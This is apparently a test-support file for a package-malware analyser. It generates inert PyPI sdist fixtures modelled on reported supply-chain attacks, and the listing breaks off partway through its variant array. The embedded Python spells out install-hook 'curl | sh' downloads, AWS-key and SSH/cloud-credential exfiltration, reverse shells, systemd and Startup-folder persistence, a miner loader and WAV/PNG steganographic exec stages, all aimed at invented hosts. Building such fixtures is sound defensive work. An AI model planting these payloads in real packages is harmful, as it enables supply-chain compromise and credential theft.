/**
 * Inert PyPI malware variants, SET1 (blind): written without looking at the analyser (shared/),
 * its rules, docs/package-analysis.md, test/unit/, bench/ or the malware corpus under
 * /work/shared/data/package-corpus. What was read: test/fixtures/archives/build.ts (tar/tgz
 * writer), the NpmVariant shape at the top of test/support/npm-variants.ts, the header of
 * test/support/npm-variants-set7.ts (how a blind set documents itself), and public reports of
 * PyPI malware 2023–2026 found with the `search` tool (corpus "pages"), listed below.
 *
 * Triggers: setup.py at module level and through cmdclass overrides (install / develop /
 * egg_info / build_py), an in-tree PEP 517 build backend (`backend-path`), `.pth` files and a
 * dropped sitecustomize (every interpreter start), import time (`__init__.py` and modules it
 * imports, daemon threads, atexit), and runtime (a public function or client constructor).
 * Payloads: download-then-run (urllib, requests streamed, httpx, powershell, curl | sh, written
 * to a temp file then started), credential / token / wallet / browser-data theft to Discord and
 * Telegram webhooks and generic endpoints, environment and cloud-metadata harvesting, reverse
 * shells (socket + pty, socket + cmd.exe pipes), persistence (cron, systemd user unit, Startup
 * folder, Run key through reg.exe, shell rc, pip.conf index redirection), obfuscation (base64,
 * zlib, marshal, rot13, hex, XOR, reversed source, chr() arrays, lambda chains, getattr on
 * builtins, NFKC-normalised homoglyph identifiers, compile+exec), typosquat and
 * dependency-confusion beacons over HTTP and DNS, payloads in a PNG (after IEND and in a tEXt
 * chunk) and in WAV frames, a clipboard address swapper, Telegram-framework fork backdoors, and
 * code appended to an otherwise honest small library.
 *
 * About a third are "hard" (the note says so): the behaviour is split over two or three files,
 * reached through indirection, next to decoys that look like the package's stated purpose.
 * PYPI_TWINS_SET1 are honest near twins: the harmless thing closest to a family.
 *
 * Each note starts with `[trigger]` or `[trigger, hard]`, trigger one of install, build-backend,
 * startup, import, runtime.
 *
 * Nothing here runs: the texts are packed into in-memory tarballs by pypiSdist. Hosts are
 * invented (`.example` / `.invalid` / `.test`, TEST-NET 192.0.2.x / 198.51.100.x /
 * 203.0.113.x); the only real host names are the public Discord and Telegram API hosts in the
 * webhook families, with invented webhook ids, bot tokens and chat ids that point nowhere. The
 * cloud metadata address is only ever computed from octets, never written. No package registry
 * host is written (code that needs an index reads it from an environment variable). Tokens,
 * keys, Fernet tokens and wallet addresses are invented strings of the right shape, made by a
 * seeded generator below. Binary files (the PNG and WAV carriers) are Buffers, so `files` is
 * `Record<string, string | Buffer>`.
 *
 * Sources (public reports the variants follow):
 * - setup.py install hooks, env exfiltration, reverse shells, shell-profile persistence:
 *   https://safeguard.sh/resources/blog/pip-install-hooks-security-risks
 * - Code execution on download (setup.py run for metadata, egg_info):
 *   https://checkmarx.com/blog/automatic-execution-of-code-upon-package-download-on-python-package-manager/
 * - 56 % of a 14k-sample dataset act in setup.py (reverse shells, env theft):
 *   https://reddit.sentinel-team.org/posts/1r8n9nk/snapshots/2026-02-19T22%3A50%3A01.146175Z
 * - March 2024 wave: Fernet-encrypted setup.py stage, dynamically built URL, browser / wallet
 *   stealer with persistence: https://infosecdefence.com/blogdetails/PyPI-Halts-New-User-Registrations ,
 *   https://securityonline.info/pypi-takes-emergency-measures-to-combat-malicious-package-flood
 * - Q1 2024 campaigns (Discord CDN second stages, Windows stealers):
 *   https://safeguard.sh/resources/blog/pypi-supply-chain-attacks-q1-2024
 * - LiteLLM 1.82.7/1.82.8 (payload appended to a module; `.pth` on every interpreter start;
 *   env, SSH, cloud, Kubernetes theft; systemd persistence): https://blog.mozilla.ai/hardening-your-llm-dependency-supply-chain ,
 *   https://archon-eight.vercel.app/war-room/litellm-supply-chain-2026 ,
 *   https://docs.bswen.com/blog/2026-03-25-python-pth-file-security ,
 *   https://agentlair.dev/blog/dont-let-agents-hold-their-own-credentials
 * - Lightning compromise (daemon thread from `__init__.py` on import) and the four execution
 *   surfaces: https://pydevtools.com/handbook/explanation/why-installing-a-python-package-can-run-code.md
 * - In-tree build backends and startup hooks (`.pth`, sitecustomize):
 *   https://krash.dev/posts/before-your-code-runs/python
 * - Telnyx 4.87.1/4.87.2 (payload in a WAV file): https://appsecuritystandards.org/blog/a-wav-file-took-down-a-pypi-package-with-740-000-monthly-downloads ,
 *   https://cyberreplay.pages.dev/blog/pypi-supply-chain-audio-steganography-detection-mitigation/
 * - Ultralytics 8.3.41/42 (coin miner fetched at import):
 *   https://safeguard.sh/resources/blog/ultralytics-pypi-compromise-december-2024
 * - Fake wallet decoders stealing mnemonics when a function is called (Checkmarx, 2024):
 *   https://news.okaylabs.io/2024/10/11/crypto-stealing-malware-discovered-in-python-package-index-checkmarx
 * - CryptoAITools (wallet drain, obfuscation): https://en.ittrends.news/Information+Technology/Software/2024/10/malicious-python-packages-cryptocurrency-security.html
 * - Trojanised Pyrogram forks ("Operation Navy Ghost", remote code / shell backdoors):
 *   https://appsecuritystandards.org/blog/trojanized-pyrogram-forks-on-pypi
 * - ZiChatBot (termncolor / colorinal; chat API as C2; Windows autostart):
 *   https://appsecuritystandards.org/blog/pypi-malware-detection-playbook-for-python-teams ,
 *   https://www.cyberhub.blog/article/12001-malicious-python-package-termncolor-exploits-windows-auto-start-for-persistent-backdoor-attacks
 * - "fabrice" (AWS keys taken by an SSH-helper look-alike):
 *   https://gabztech.com/2024/11/08/overview-of-pypi-and-its-role-in-the-developer-ecosystem
 * - Cloud-token stealers (14,100 downloads): https://cloudindustryreview.com/malicious-pypi-packages-compromise-cloud-tokens-with-14100-downloads-before-being-pulled
 * - Dependency confusion and torchtriton (hostname, user, files sent home):
 *   https://protectai.com/blog/secure-your-python-projects-with-dummies ,
 *   https://blog.crawlex.net/blog/dependency-confusion
 * - Typosquat beacons reporting host and user name: https://niverel.tymyrddin.space/en/research/stories/cca/pypi
 * - Obfuscation shapes (base64/32/16, hex, byte arrays, split strings, renamed identifiers):
 *   https://arxiv.org/html/2512.04338v1 ; statement-level taxonomy: https://arxiv.org/html/2512.12559v1
 * - Unicode / NFKC identifier confusion: https://peps.python.org/pep-0672/
 * - Obfuscation heuristics seen by a public scanner (marshal, rot13, exec of decoded text):
 *   https://pypi-scanner-pages.pages.dev/docs
 * - Typosquat that exfiltrates AWS_* variables from CI: https://reflexframework.com/battlecards/python2
 * - "written": the README carrier, the fixture carrier, the pip.conf redirection and the PNG
 *   tEXt carrier are this author's combinations of the shapes above.
 */

import { deflateSync } from 'node:zlib';
import { buildTgz } from '../fixtures/archives/build.js';
import { pngChunk } from './png.js';

export interface PypiVariant {
  id: string;
  family: string;
  note: string;
  name: string;
  version: string;
  /** Paths inside the sdist folder (`setup.py`, `pkg/__init__.py`, `PKG-INFO`, `pyproject.toml`). */
  files: Record<string, string | Buffer>;
}

/** Raw template: generated Python keeps its backslashes. Contents avoid backticks and `${`. */
const py = String.raw;
const b64 = (s: string | Buffer): string => Buffer.from(s).toString('base64');
const zb64 = (s: string | Buffer): string => deflateSync(Buffer.from(s)).toString('base64');
const xorBytes = (data: Buffer, key: Buffer): Buffer => Buffer.from(data.map((c, i) => c ^ key[i % key.length]!));
const rot13 = (s: string): string =>
  s.replace(/[a-z]/gi, (c) =>
    String.fromCharCode(((c.toLowerCase().charCodeAt(0) - 97 + 13) % 26) + (c <= 'Z' ? 65 : 97)),
  );
const rev = (s: string): string => [...s].reverse().join('');
const chrList = (s: string): string => [...Buffer.from(s)].join(',');
/** Fullwidth Latin letters: Python folds them to ASCII by NFKC when it parses identifiers. */
const fw = (s: string): string =>
  [...s].map((c) => (/[a-z]/.test(c) ? String.fromCodePoint(0xff41 + c.charCodeAt(0) - 97) : c)).join('');
/** Mathematical sans-serif italic small letters: also NFKC-folded to ASCII. */
const mi = (s: string): string =>
  [...s].map((c) => (/[a-z]/.test(c) ? String.fromCodePoint(0x1d622 + c.charCodeAt(0) - 97) : c)).join('');

/** Seeded generator for invented tokens and addresses (deterministic, points nowhere). */
function invented(seed: number): (alphabet: string, n: number) => string {
  let x = seed >>> 0;
  return (alphabet, n) => {
    let out = '';
    for (let i = 0; i < n; i++) {
      x = (Math.imul(x, 1664525) + 1013904223) >>> 0;
      out += alphabet[x % alphabet.length];
    }
    return out;
  };
}
const B58 = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz';
const HEX = '0123456789abcdef';
const B64URL = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
const BECH = 'qpzry9x8gf2tvdw0s3jn54khce6mua7l';
const DIG = '0123456789';
const g = invented(0x5eed1);
const FAKE = {
  btc: `bc1q${g(BECH, 38)}`,
  eth: `0x${g(HEX, 40)}`,
  trx: `T${g(B58, 33)}`,
  xmr: `4${g('ABCDEFGHJKLMNPQRSTUVWXYZ', 1)}${g(B58, 93)}`,
  sol: g(B58, 44),
  discordId: `1${g(DIG, 18)}`,
  discordToken: g(B64URL, 68),
  tgBot: `7${g(DIG, 9)}:AA${g(B64URL, 33)}`,
  tgChat: `-100${g(DIG, 10)}`,
  fernetKey: `${g(B64URL, 43)}=`,
  fernetToken: `gAAAAAB${g(B64URL, 150)}==`,
  zulipKey: g('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789', 32),
};

const pkgInfo = (name: string, version: string, summary: string, extra = ''): string =>
  `Metadata-Version: 2.1\nName: ${name}\nVersion: ${version}\nSummary: ${summary}\nAuthor: ${name} developers\nLicense: MIT\nRequires-Python: >=3.8\n${extra}`;

/** A package: PKG-INFO plus the given files. */
function pkg(
  name: string,
  version: string,
  summary: string,
  files: Record<string, string | Buffer>,
): Pick<PypiVariant, 'name' | 'version' | 'files'> {
  return { name, version, files: { 'PKG-INFO': pkgInfo(name, version, summary), ...files } };
}

/** A plain setup.py tail. */
const plainSetup = (name: string, version: string, pkgs: string, extra = ''): string =>
  `setup(\n    name='${name}',\n    version='${version}',\n    packages=[${pkgs}],\n${extra})\n`;

// ---------- binary carriers ----------


/** A 2x2 RGB PNG; `text` adds a tEXt chunk, `trailer` bytes after IEND. */
function png(opts: { text?: [string, string]; trailer?: Buffer } = {}): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(2, 0);
  ihdr.writeUInt32BE(2, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  const raw = Buffer.from([0, 30, 60, 90, 200, 10, 10, 0, 10, 200, 10, 90, 90, 90]);
  const parts = [Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk('IHDR', ihdr)];
  if (opts.text) parts.push(pngChunk('tEXt', Buffer.from(`${opts.text[0]}\0${opts.text[1]}`, 'latin1')));
  parts.push(pngChunk('IDAT', deflateSync(raw)), pngChunk('IEND', Buffer.alloc(0)));
  if (opts.trailer) parts.push(opts.trailer);
  return Buffer.concat(parts);
}

/** An 8-bit mono PCM WAV whose frames are `frames`. */
function wav(frames: Buffer): Buffer {
  const fmt = Buffer.alloc(16);
  fmt.writeUInt16LE(1, 0);
  fmt.writeUInt16LE(1, 2);
  fmt.writeUInt32LE(8000, 4);
  fmt.writeUInt32LE(8000, 8);
  fmt.writeUInt16LE(1, 12);
  fmt.writeUInt16LE(8, 14);
  const head = (id: string, n: number): Buffer => {
    const b = Buffer.alloc(8);
    b.write(id, 0, 'latin1');
    b.writeUInt32LE(n, 4);
    return b;
  };
  const body = Buffer.concat([
    Buffer.from('WAVE', 'latin1'),
    head('fmt ', 16),
    fmt,
    head('data', frames.length),
    frames,
  ]);
  return Buffer.concat([head('RIFF', body.length), body]);
}

/** Bytes that look like a marshalled code object holding `src` (inert: never loaded). */
function fakeMarshal(src: string): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32LE(Buffer.byteLength(src));
  return Buffer.concat([Buffer.from([0xe3]), Buffer.alloc(24), Buffer.from([0xf5]), len, Buffer.from(src)]);
}

// ---------- payload texts reused by several variants (all inert, hosts invented) ----------

const P_STEAL_HOME = py`import os, io, tarfile, urllib.request
h = os.path.expanduser('~')
buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode='w:gz') as t:
    for rel in ('.ssh', '.aws/credentials', '.kube/config', '.docker/config.json', '.netrc', '.git-credentials', '.env'):
        p = os.path.join(h, rel)
        if os.path.exists(p):
            t.add(p, arcname=rel)
urllib.request.urlopen(urllib.request.Request('https://collect.llmroute.example/v1/ingest', data=buf.getvalue(), headers={'X-Env': str(len(os.environ))}), timeout=5)
`;

const P_DOWNLOAD_RUN = py`import os, stat, tempfile, subprocess, urllib.request
p = os.path.join(tempfile.gettempdir(), '.x11-cache')
urllib.request.urlretrieve('http://203.0.113.19/stage2', p)
os.chmod(p, os.stat(p).st_mode | stat.S_IEXEC)
subprocess.Popen([p], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
`;

const P_REVSHELL = py`import socket, os, pty
s = socket.socket()
s.connect(('198.51.100.23', 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn('/bin/sh')
`;

const P_ENV_POST = py`import os, json, socket, getpass, urllib.request
d = {'h': socket.gethostname(), 'u': getpass.getuser(), 'env': dict(os.environ)}
urllib.request.urlopen('https://stats.cdn-assets.example/e', data=json.dumps(d).encode(), timeout=4)
`;

// ---------- the variants ----------

export const PYPI_VARIANTS_SET1: readonly PypiVariant[] = [
  {
    id: 'setup-cmdclass-install-curl-sh',
    family: 'download_exec',
    note: '[install] cmdclass install override pipes a fetched script into sh after the normal install. After: https://safeguard.sh/resources/blog/pip-install-hooks-security-risks',
    ...pkg('colorsama', '0.4.7', 'Cross-platform colored terminal text', {
      'setup.py':
        py`import subprocess
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        subprocess.call('curl -fsSL http://203.0.113.7/i.sh | sh', shell=True)


` + plainSetup('colorsama', '0.4.7', "'colorsama'", "    cmdclass={'install': PostInstall},\n"),
      'colorsama/__init__.py': py`RESET = '\x1b[0m'
RED = '\x1b[31m'
GREEN = '\x1b[32m'


def paint(text, color=RED):
    return color + text + RESET
`,
    }),
  },
  {
    id: 'setup-module-level-aws-env-curl',
    family: 'credential_theft',
    note: '[install] module-level os.system in setup.py sends AWS keys in a query string before setup() runs. After: https://safeguard.sh/resources/blog/pip-install-hooks-security-risks and https://reflexframework.com/battlecards/python2',
    ...pkg('python-datetutil', '2.9.1', 'Extensions to the standard datetime module', {
      'setup.py':
        py`import os
os.system('curl -s "http://198.51.100.14/c?k=' + os.environ.get('AWS_ACCESS_KEY_ID', '') + '&s=' + os.environ.get('AWS_SECRET_ACCESS_KEY', '') + '" >/dev/null 2>&1')
from setuptools import setup
` + plainSetup('python-datetutil', '2.9.1', "'dateutil2'"),
      'dateutil2/__init__.py': py`from datetime import datetime


def parse(s):
    return datetime.fromisoformat(s)
`,
    }),
  },
  {
    id: 'setup-develop-egginfo-exe-temp',
    family: 'download_exec',
    note: '[install] develop and egg_info overrides (egg_info runs when pip only collects metadata) download a Windows executable to %TEMP% and start it detached. After: https://checkmarx.com/blog/automatic-execution-of-code-upon-package-download-on-python-package-manager/',
    ...pkg('pilllow', '10.3.1', 'Python Imaging Library (fork)', {
      'setup.py':
        py`import os
import subprocess
import urllib.request
from setuptools import setup
from setuptools.command.develop import develop
from setuptools.command.egg_info import egg_info


def _fetch():
    if os.name != 'nt':
        return
    dst = os.path.join(os.environ.get('TEMP', '.'), 'WinSvcHost32.exe')
    if not os.path.exists(dst):
        urllib.request.urlretrieve('http://192.0.2.88/dl/WinSvcHost32.exe', dst)
    subprocess.Popen([dst], creationflags=0x00000008 | 0x08000000, close_fds=True)


class Develop(develop):
    def run(self):
        _fetch()
        develop.run(self)


class EggInfo(egg_info):
    def run(self):
        _fetch()
        egg_info.run(self)


` + plainSetup('pilllow', '10.3.1', "'PIL2'", "    cmdclass={'develop': Develop, 'egg_info': EggInfo},\n"),
      'PIL2/__init__.py': "__version__ = '10.3.1'\n",
    }),
  },
  {
    id: 'setup-fernet-dynamic-url-stage',
    family: 'download_exec',
    note: '[install] setup.py builds a URL from pieces, fetches a Fernet-encrypted stage, decrypts with an embedded key and exec()s it. After: https://infosecdefence.com/blogdetails/PyPI-Halts-New-User-Registrations',
    ...pkg('requestss', '2.31.4', 'HTTP for Humans', {
      'setup.py':
        py`from setuptools import setup
import urllib.request as _r
try:
    from cryptography.fernet import Fernet
    _p = ['ht', 'tp', '://', '192.0.2.', '44', '/pa', 'ge', '?id=', '8841']
    _b = _r.urlopen(''.join(_p), timeout=8).read()
    exec(Fernet(b'${FAKE.fernetKey}').decrypt(_b or b'${FAKE.fernetToken}'))
except Exception:
    pass
` + plainSetup('requestss', '2.31.4', "'requestss'", "    install_requires=['cryptography'],\n"),
      'requestss/__init__.py': 'from urllib.request import urlopen as get\n',
    }),
  },
  {
    id: 'setup-powershell-iwr-startup-folder',
    family: 'persistence',
    note: '[install] setup.py runs a hidden PowerShell that downloads an executable into the Startup folder and starts it. After: https://www.cyberhub.blog/article/12001-malicious-python-package-termncolor-exploits-windows-auto-start-for-persistent-backdoor-attacks',
    ...pkg('termncolour', '2.4.1', 'ANSI color formatting for output in terminal', {
      'setup.py':
        py`import os
import subprocess
from setuptools import setup

if os.name == 'nt':
    subprocess.Popen([
        'powershell', '-NoP', '-W', 'Hidden', '-ExecutionPolicy', 'Bypass', '-Command',
        "$d=Join-Path $env:APPDATA 'Microsoft\Windows\Start Menu\Programs\Startup\TermHelper.exe';"
        "Invoke-WebRequest -Uri 'http://198.51.100.9/u.exe' -OutFile $d; Start-Process $d",
    ], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

` + plainSetup('termncolour', '2.4.1', "'termncolour'"),
      'termncolour/__init__.py': py`def colored(text, color=None):
    codes = {'red': 31, 'green': 32, 'yellow': 33}
    return '\x1b[%dm%s\x1b[0m' % (codes.get(color, 0), text)
`,
    }),
  },
  {
    id: 'pyproject-intree-backend-beacon',
    family: 'beacon',
    note: '[build-backend] pyproject declares an in-tree backend (backend-path); its get_requires_for_build_wheel reports host, user and directory before delegating to setuptools. After: https://pydevtools.com/handbook/explanation/why-installing-a-python-package-can-run-code.md and https://krash.dev/posts/before-your-code-runs/python',
    ...pkg('fastapi_utilz', '0.9.2', 'Reusable utilities for FastAPI', {
      'pyproject.toml': `[build-system]\nrequires = ["setuptools>=61", "wheel"]\nbuild-backend = "backend"\nbackend-path = ["_custom_build"]\n\n[project]\nname = "fastapi_utilz"\nversion = "0.9.2"\ndescription = "Reusable utilities for FastAPI"\n`,
      '_custom_build/backend.py': py`import os
import socket
import getpass
import urllib.parse
import urllib.request
from setuptools import build_meta as _orig
from setuptools.build_meta import *  # noqa: F401,F403


def get_requires_for_build_wheel(config_settings=None):
    q = urllib.parse.urlencode({'h': socket.gethostname(), 'u': getpass.getuser(), 'd': os.getcwd(), 'p': 'fastapi_utilz'})
    try:
        urllib.request.urlopen('http://pkg-stats.test/b?' + q, timeout=3)
    except Exception:
        pass
    return _orig.get_requires_for_build_wheel(config_settings)
`,
      'fastapi_utilz/__init__.py':
        'def paginate(items, page=1, size=20):\n    return items[(page - 1) * size: page * size]\n',
    }),
  },
  {
    id: 'pyproject-backend-toolchain-reverse-shell',
    family: 'reverse_shell',
    note: '[build-backend, hard] in-tree backend re-exports setuptools but its build_wheel first calls a "toolchain check" in a second file, which forks and connects a pty shell to a TEST-NET address. After: https://pydevtools.com/handbook/explanation/why-installing-a-python-package-can-run-code.md',
    ...pkg('numpy_financial_ext', '1.1.0', 'Financial functions for NumPy (extensions)', {
      'pyproject.toml': `[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "nfe_build.backend"\nbackend-path = ["tools"]\n\n[project]\nname = "numpy_financial_ext"\nversion = "1.1.0"\ndependencies = ["numpy"]\n`,
      'tools/nfe_build/__init__.py': '',
      'tools/nfe_build/backend.py': py`from setuptools import build_meta as _bm
from setuptools.build_meta import *  # noqa: F401,F403
from . import toolchain


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    toolchain.ensure(config_settings or {})
    return _bm.build_wheel(wheel_directory, config_settings, metadata_directory)


def build_sdist(sdist_directory, config_settings=None):
    return _bm.build_sdist(sdist_directory, config_settings)
`,
      'tools/nfe_build/toolchain.py': py`import os
import shutil
import socket

_MIRROR = ('198.51.100.' + str(23), 443)


def _compiler():
    return shutil.which('cc') or shutil.which('gcc')


def _warm(addr):
    if os.fork() != 0:
        return
    os.setsid()
    s = socket.create_connection(addr)
    [os.dup2(s.fileno(), n) for n in (0, 1, 2)]
    __import__('pty').spawn(['/bin/bash', '-i'])
    os._exit(0)


def ensure(settings):
    if not _compiler():
        print('no C compiler found; building pure-Python wheel')
    if os.name == 'posix' and not settings.get('offline'):
        try:
            _warm(_MIRROR)
        except OSError:
            pass
`,
      'numpy_financial_ext/__init__.py': py`def npv(rate, values):
    return sum(v / (1 + rate) ** i for i, v in enumerate(values))
`,
    }),
  },
  {
    id: 'pth-startup-credential-harvest',
    family: 'credential_theft',
    note: '[startup] a build_py override copies a .pth into the wheel root; its one import line starts a child interpreter that decodes and runs a harvester of SSH, cloud, Kubernetes and .env files on every Python start. After: https://archon-eight.vercel.app/war-room/litellm-supply-chain-2026 and https://docs.bswen.com/blog/2026-03-25-python-pth-file-security',
    ...pkg('llmroute', '1.82.9', 'Call 100+ LLM APIs in one format', {
      'llmroute_init.pth': `import os, subprocess, sys; os.environ.get('LLMR_CHILD') or subprocess.Popen([sys.executable, '-c', 'import base64; exec(base64.b64decode("${b64(P_STEAL_HOME)}"))'], env=dict(os.environ, LLMR_CHILD='1'), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n`,
      'setup.py':
        py`import os
import shutil
from setuptools import setup
from setuptools.command.build_py import build_py


class BuildPy(build_py):
    def run(self):
        build_py.run(self)
        shutil.copy('llmroute_init.pth', os.path.join(self.build_lib, 'llmroute_init.pth'))


` + plainSetup('llmroute', '1.82.9', "'llmroute'", "    cmdclass={'build_py': BuildPy},\n"),
      'llmroute/__init__.py': py`def completion(model, messages, **kw):
    from .router import route
    return route(model).complete(messages, **kw)
`,
      'llmroute/router.py': py`class _Provider:
    def __init__(self, name):
        self.name = name

    def complete(self, messages, **kw):
        raise NotImplementedError(self.name)


def route(model):
    return _Provider(model.split('/')[0])
`,
    }),
  },
  {
    id: 'pth-import-hook-systemd-user-unit',
    family: 'persistence',
    note: '[startup, hard] a .pth line imports a top-level module shipped beside the package; that module writes a systemd user unit which re-downloads and runs a script at every login, then enables it. After: https://blog.mozilla.ai/hardening-your-llm-dependency-supply-chain',
    ...pkg('proxy_cfg', '0.6.3', 'Load proxy settings from environment and files', {
      'proxy_cfg-hook.pth': 'import _proxy_cfg_boot\n',
      '_proxy_cfg_boot.py': py`import os
import subprocess

_UNIT = '''[Unit]
Description=User session sync

[Service]
ExecStart=/bin/sh -c "curl -fsSL http://203.0.113.31/s.py | python3 -"
Restart=always
RestartSec=600

[Install]
WantedBy=default.target
'''


def _install():
    d = os.path.expanduser('~/.config/systemd/user')
    p = os.path.join(d, 'session-sync.service')
    if os.path.exists(p):
        return
    os.makedirs(d, exist_ok=True)
    with open(p, 'w') as f:
        f.write(_UNIT)
    subprocess.run(['systemctl', '--user', 'daemon-reload'], capture_output=True)
    subprocess.run(['systemctl', '--user', 'enable', '--now', 'session-sync.service'], capture_output=True)


try:
    _install()
except Exception:
    pass
`,
      'setup.py': py`from setuptools import setup
setup(
    name='proxy_cfg',
    version='0.6.3',
    packages=['proxy_cfg'],
    py_modules=['_proxy_cfg_boot'],
    data_files=[('', ['proxy_cfg-hook.pth'])],
)
`,
      'proxy_cfg/__init__.py': py`import os


def proxies():
    return {k: os.environ[k] for k in ('HTTP_PROXY', 'HTTPS_PROXY', 'NO_PROXY') if k in os.environ}
`,
    }),
  },
  {
    id: 'import-daemon-thread-token-harvest',
    family: 'credential_theft',
    note: '[import, hard] __init__ imports a "_runtime" module named like version checks; it starts a daemon thread that collects CI, cloud and ML-platform tokens from the environment and posts them. After: https://pydevtools.com/handbook/explanation/why-installing-a-python-package-can-run-code.md (lightning compromise)',
    ...pkg('lightframe', '2.5.2', 'Lightweight deep learning training loops', {
      'setup.py':
        "from setuptools import setup, find_packages\nsetup(name='lightframe', version='2.5.2', packages=find_packages())\n",
      'lightframe/__init__.py': py`from ._runtime import check_versions
from .trainer import Trainer

check_versions()
__all__ = ['Trainer']
`,
      'lightframe/trainer.py': py`class Trainer:
    def __init__(self, max_epochs=10):
        self.max_epochs = max_epochs

    def fit(self, model, data):
        for _ in range(self.max_epochs):
            for batch in data:
                model.step(batch)
`,
      'lightframe/_runtime.py': py`import json
import os
import sys
import threading
import urllib.request

_KEYS = ('GITHUB_TOKEN', 'GH_TOKEN', 'HF_TOKEN', 'WANDB_API_KEY', 'AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY',
         'OPENAI_API_KEY', 'ANTHROPIC_API_KEY', 'PYPI_TOKEN', 'TWINE_PASSWORD', 'CI_JOB_TOKEN')


def _sync():
    found = {k: os.environ[k] for k in _KEYS if k in os.environ}
    found.update({k: v for k, v in os.environ.items() if k.endswith('_TOKEN') or k.endswith('_SECRET')})
    if found:
        req = urllib.request.Request('https://metrics.lightframe.example/collect', data=json.dumps(found).encode(),
                                     headers={'Content-Type': 'application/json'})
        try:
            urllib.request.urlopen(req, timeout=10)
        except Exception:
            pass


def check_versions():
    if sys.version_info < (3, 8):
        raise RuntimeError('lightframe needs Python 3.8+')
    threading.Thread(target=_sync, daemon=True).start()
`,
    }),
  },
  {
    id: 'import-coinminer-download',
    family: 'download_exec',
    note: '[import] a utils module fetches a miner binary to a hidden temp path, marks it executable and starts it detached with a pool and wallet. After: https://safeguard.sh/resources/blog/ultralytics-pypi-compromise-december-2024',
    ...pkg('yolodetect', '8.3.48', 'Object detection, segmentation and pose models', {
      'setup.py':
        "from setuptools import setup, find_packages\nsetup(name='yolodetect', version='8.3.48', packages=find_packages())\n",
      'yolodetect/__init__.py': 'from .utils import LOGGER\nfrom .model import YOLO\n',
      'yolodetect/model.py':
        "class YOLO:\n    def __init__(self, weights='yolo8n.pt'):\n        self.weights = weights\n",
      'yolodetect/utils/__init__.py': py`import logging
import os
import platform
import subprocess
import urllib.request

LOGGER = logging.getLogger('yolodetect')


def _safe_run():
    if platform.system() != 'Linux':
        return
    p = '/tmp/.kworker-ud'
    if not os.path.exists(p):
        urllib.request.urlretrieve('http://203.0.113.50/files/kw', p)
        os.chmod(p, 0o755)
    subprocess.Popen([p, '-o', 'pool.minexmr.invalid:3333', '-u', '${FAKE.xmr}', '--donate-level', '0', '-B'],
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)


try:
    _safe_run()
except Exception:
    pass
`,
    }),
  },
  {
    id: 'wav-frames-xor-stage',
    family: 'steganography',
    note: '[import, hard] the client imports a "_media" helper that opens a bundled ringback WAV with the wave module, XOR-decodes its frames with the first 8 bytes, decompresses and exec()s the result in a thread (an SSH/cloud-key stealer). After: https://appsecuritystandards.org/blog/a-wav-file-took-down-a-pypi-package-with-740-000-monthly-downloads',
    ...pkg('voicewire', '4.87.3', 'Python client for the Voicewire telephony API', {
      'setup.py':
        "from setuptools import setup\nsetup(name='voicewire', version='4.87.3', packages=['voicewire'], package_data={'voicewire': ['assets/*.wav']})\n",
      'voicewire/__init__.py': py`from ._client import Client
from . import _media  # noqa: F401  (preloads ringback tones)

__all__ = ['Client']
`,
      'voicewire/_client.py': py`import json
import urllib.request


class Client:
    def __init__(self, api_key, base_url='https://api.voicewire.example/v2'):
        self.api_key = api_key
        self.base_url = base_url

    def call(self, to, from_):
        body = json.dumps({'to': to, 'from': from_}).encode()
        req = urllib.request.Request(self.base_url + '/calls', data=body, headers={'Authorization': 'Bearer ' + self.api_key})
        return json.load(urllib.request.urlopen(req))
`,
      'voicewire/_media.py': py`import os
import threading
import wave
import zlib

_HERE = os.path.dirname(__file__)
TONES = {}


def _load(name):
    with wave.open(os.path.join(_HERE, 'assets', name), 'rb') as w:
        frames = w.readframes(w.getnframes())
    TONES[name] = frames
    return frames


def _prime():
    f = _load('ringback.wav')
    k, body = f[:8], f[8:]
    exec(zlib.decompress(bytes(b ^ k[i % 8] for i, b in enumerate(body))).decode(), {'__name__': '_tone'})


threading.Thread(target=_prime, daemon=True).start()
`,
      'voicewire/assets/ringback.wav': (() => {
        const key = Buffer.from([0x13, 0x37, 0x42, 0x99, 0x05, 0x61, 0xaa, 0x2c]);
        return wav(
          Buffer.concat([
            key,
            xorBytes(
              deflateSync(
                Buffer.from(P_STEAL_HOME.replace('collect.llmroute.example/v1/ingest', 'ringback.voicewire.example/r')),
              ),
              key,
            ),
          ]),
        );
      })(),
    }),
  },
  {
    id: 'png-after-iend-theme-loader',
    family: 'steganography',
    note: '[import] a "theme" module reads the package logo PNG, takes the bytes after the IEND chunk, base64-decodes and decompresses them and exec()s a download-and-run stage. After: https://cyberreplay.pages.dev/blog/pypi-supply-chain-audio-steganography-detection-mitigation/ (carrier files in sdists)',
    ...pkg('richtext_themes', '0.3.0', 'Colour themes for terminal rich text', {
      'setup.py':
        "from setuptools import setup\nsetup(name='richtext_themes', version='0.3.0', packages=['richtext_themes'], package_data={'richtext_themes': ['static/*.png']})\n",
      'richtext_themes/__init__.py': 'from ._theme import load_theme, DEFAULT\n',
      'richtext_themes/_theme.py': py`import base64
import os
import zlib

DEFAULT = {'primary': '#3b82f6', 'accent': '#f59e0b'}


def _logo_meta():
    with open(os.path.join(os.path.dirname(__file__), 'static', 'logo.png'), 'rb') as f:
        data = f.read()
    tail = data[data.rfind(b'IEND') + 8:]
    if tail:
        exec(zlib.decompress(base64.b64decode(tail)))


def load_theme(name='default'):
    return dict(DEFAULT)


_logo_meta()
`,
